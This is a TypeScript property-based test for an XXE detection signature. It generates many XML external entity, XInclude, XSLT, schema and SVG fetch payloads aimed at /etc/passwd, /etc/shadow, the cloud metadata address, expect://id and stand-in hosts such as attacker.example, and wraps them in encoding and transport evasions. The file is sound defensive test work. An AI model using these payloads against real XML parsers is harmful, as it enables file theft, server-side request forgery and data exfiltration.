import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { HttpRequest } from '../../../src/attacks/request/http-request.ts';
import { xxe } from '../../../src/attacks/signatures/xxe.ts';
import { firstMatch, json } from '../paths/request-of.ts';

/** Files of the server, its own network, and machines elsewhere. */
const OWN = ['file:///etc/passwd', 'php://filter/resource=a.php', 'expect://id', 'jar:http://203.0.113.9/a.jar!/b'];
const NEAR = ['/etc/passwd', '../../../etc/shadow', 'C:/Windows/win.ini', 'http://169.254.169.254/latest/'];
const FAR = ['http://203.0.113.9/x', 'https://attacker.example/x.dtd', 'ftp://203.0.113.9/x', '//203.0.113.9/x'];

const XSL = 'xmlns:x="http://www.w3.org/1999/XSL/Transform"';
const XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"';
const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Declarations, which are read whatever they name. */
const DECLARED: readonly ((address: string) => string)[] = [
  (at) => `<!DOCTYPE r [<!ENTITY e SYSTEM "${at}">]><r>&e;</r>`,
  (at) => `<!DOCTYPE r [<!ENTITY e PUBLIC "p" "${at}">]><r a="&e;"/>`,
  (at) => `<!DOCTYPE r [<!ENTITY % p SYSTEM "${at}"> %p;]><r/>`,
  (at) => `<!DOCTYPE r [<!ENTITY &#x25; p SYSTEM '${at}'> &#x25;p;]><r/>`,
  (at) => `<!DOCTYPE r SYSTEM "${at}"><r>&e;</r>`,
  (at) => `<!DOCTYPE r PUBLIC "-//X//Y" "${at}" [<!ENTITY % a "b">]><r/>`,
  (at) => `<!doctype\tr\n[\n<!entity\ne\nsystem\n'${at}'\n>\n]\n>\n<r>&e;</r>`,
  (at) => `<!DOCTYPE r [<!-- "> --><!ENTITY e SYSTEM "${at}">]><r>&e;</r>`,
  (at) => `<!DOCTYPE r [<?a <!-- ?><!ENTITY e SYSTEM "${at}"><?b --> ?>]><r>&e;</r>`,
  (at) => `<!DOCTYPE r [<!ATTLIST r a CDATA "<!--"><!ENTITY e SYSTEM "${at}"><!ATTLIST r b CDATA "-->">]><r>&e;</r>`,
  (at) => `<!DOCTYPE r [<!ENTITY e SYSTEM "${at}`,
  (at) => `</a><!DOCTYPE r [<!ENTITY e SYSTEM "${at}">]><a>&e;`,
  (at) => `<!ENTITY % all "<!ENTITY send SYSTEM '${at}?%file;'>">%all;`,
  (at) =>
    `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><![CDATA[<!DOCTYPE r [<!ENTITY % p SYSTEM "${at}"> %p;]><r/>]]></s:Body></s:Envelope>`,
  (at) => `<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="${at}"/>`,
];
/** Elements that have something fetched, be it from elsewhere. */
const FETCHED: readonly ((address: string) => string)[] = [
  (at) => `<x:stylesheet version="1.0" ${XSL}><x:import href="${at}"/></x:stylesheet>`,
  (at) => `<x:stylesheet version="1.0" ${XSL}><x:copy-of select="document('${at}')"/></x:stylesheet>`,
  (at) => `<x:stylesheet version="1.0" ${XSL}><x:copy-of select="document(concat('${at}', 'x'))"/></x:stylesheet>`,
  (at) => `<x:stylesheet version="2.0" ${XSL}><x:value-of select="unparsed-text('${at}')"/></x:stylesheet>`,
  (at) => `<r ${XSI} xsi:schemaLocation="urn:a ${at}"/>`,
  (at) => `<r ${XSI} xsi:noNamespaceSchemaLocation="${at}"/>`,
  (at) => `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="${at}"/></xs:schema>`,
  (at) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${at}"?><r/>`,
  (at) => `<?xml version="1.0"?><?xml-model href="${at}"?><r/>`,
];
/** Elements that draw, check or link: ordinary with an address elsewhere, never with one of the server. */
const DRAWN: readonly ((address: string) => string)[] = [
  (at) => `<svg ${SVG}><image xlink:href="${at}" width="9" height="9"/></svg>`,
  (at) => `<svg ${SVG}><use href="${at}#a"/></svg>`,
  (at) => `<d:Signature xmlns:d="http://www.w3.org/2000/09/xmldsig#"><d:RetrievalMethod URI="${at}"/></d:Signature>`,
  (at) => `<d:Signature xmlns:d="http://www.w3.org/2000/09/xmldsig#"><d:Reference URI="${at}"/></d:Signature>`,
  (at) => `<grammar xmlns="http://relaxng.org/ns/structure/1.0"><include href="${at}"/></grammar>`,
];

const all = (forms: readonly ((address: string) => string)[], addresses: readonly string[]): readonly string[] =>
  forms.flatMap((form) => addresses.map(form));
const ATTACKS = [
  ...all(DECLARED, [...OWN, ...NEAR, ...FAR]),
  ...all(FETCHED, [...OWN, ...NEAR, ...FAR]),
  ...all(DRAWN, [...OWN, ...NEAR]),
];

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const escaped = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const numbered = (text: string): string => text.replace(/./gs, (character) => `&#${character.charCodeAt(0)};`);
const unicode = (text: string): string =>
  text.replace(/./gs, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`);
const wide = (text: string): Uint8Array => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'));
const sent = (contentType: string, body: string | Uint8Array): Partial<HttpRequest> => ({
  method: 'POST',
  contentType,
  body,
});
const part = (headers: string, text: string): Partial<HttpRequest> =>
  sent('multipart/form-data; boundary=q', `--q\r\n${headers}\r\n\r\n${text}\r\n--q--\r\n`);
const FORM = 'application/x-www-form-urlencoded';

/** Ways a document comes into an application. */
const CARRIERS: Readonly<Record<string, (document: string) => Partial<HttpRequest>>> = {
  xml: (text) => sent('application/xml', text),
  'xml in UTF-16': (text) => sent('text/xml', wide(text)),
  'any type': (text) => sent('application/octet-stream', text),
  'a form that is none': (text) => sent(FORM, encodeURIComponent(text)),
  'a field': (text) => sent(FORM, `a=1&xml=${encodeURIComponent(text)}`),
  'a field, encoded twice': (text) => sent(FORM, `xml=${encodeURIComponent(encodeURIComponent(text))}`),
  'a field in base64': (text) => sent(FORM, `SAMLResponse=${encodeURIComponent(base64(text))}`),
  'base64 alone': (text) => sent(FORM, base64(text)),
  query: (text) => ({ query: `xml=${encodeURIComponent(text)}` }),
  header: (text) => ({ headers: { 'X-Data': text.replace(/\n/g, ' ') } }),
  cookie: (text) => ({ headers: { Cookie: `a=${encodeURIComponent(text)}` } }),
  json: (text) => json('xml', text),
  'json in base64': (text) => json('xml', base64(text)),
  'json, escaped twice': (text) => json('xml', unicode(text)),
  upload: (text) => part('Content-Disposition: form-data; name="f"; filename="a.xml"\r\nContent-Type: text/xml', text),
  'inside of XML, escaped': (text) => sent('text/xml', `<?xml version="1.0"?><a>${escaped(text)}</a>`),
  'inside of XML, as numbers': (text) => sent('text/xml', `<?xml version="1.0"?><a>${numbered(text)}</a>`),
  'inside of XML, in base64': (text) => sent('text/xml', `<?xml version="1.0"?><a>${base64(text)}</a>`),
};

test('what makes an XML reader fetch something is found however the document is sent', () => {
  fc.assert(
    fc.property(fc.constantFrom(...ATTACKS), fc.constantFrom(...Object.keys(CARRIERS)), (document, carrier) => {
      expect(firstMatch(xxe, CARRIERS[carrier]?.(document) ?? {})?.confidence ?? 0).toBeGreaterThanOrEqual(0.5);
    }),
  );
});
